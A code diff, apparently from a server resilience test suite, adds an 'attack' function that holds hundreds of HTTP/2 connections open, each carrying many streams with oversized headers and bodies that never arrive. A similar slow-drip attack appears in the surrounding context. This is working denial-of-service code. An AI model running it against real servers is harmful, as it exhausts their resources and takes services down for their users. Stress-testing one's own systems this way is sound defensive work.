@@ -113,3 +113,21 @@ def wide_log_probabilities(target):
     peers = [Raw(target, receive_buffer=4096, wait=5).send(request) for _ in range(target.size(16, 3))]
     left = drip(target, peers, 500)
     return f'{len(left)} of {len(peers)} still open'
+
+
+@attack(seconds=30, quick=9, quick_env=SMALL)
+def held_heads(target):
+    """400 connections of 100 streams whose heads are 14 KB and whose bodies never come."""
+    fields = [JSON_FIELD, ('content-length', '100000')] + [(f'x-{i}', 'h' * 120) for i in range(85)]
+    peers, heads = [], b''
+    while not target.over():
+        if len(peers) < target.size(400, 300):
+            h2 = H2(target, wait=5)
+            heads = heads or b''.join(h2.head(i, INFER, 'POST', end=False, extra=fields) for i in range(1, 200, 2))
+            peers.append(h2)
+            h2.send(heads)
+        else:
+            time.sleep(0.05)
+        for h2 in peers[-8:]:
+            h2.pump()
+    return f'{len(peers)} connections, {sum(p.pump() for p in peers)} of them still open'
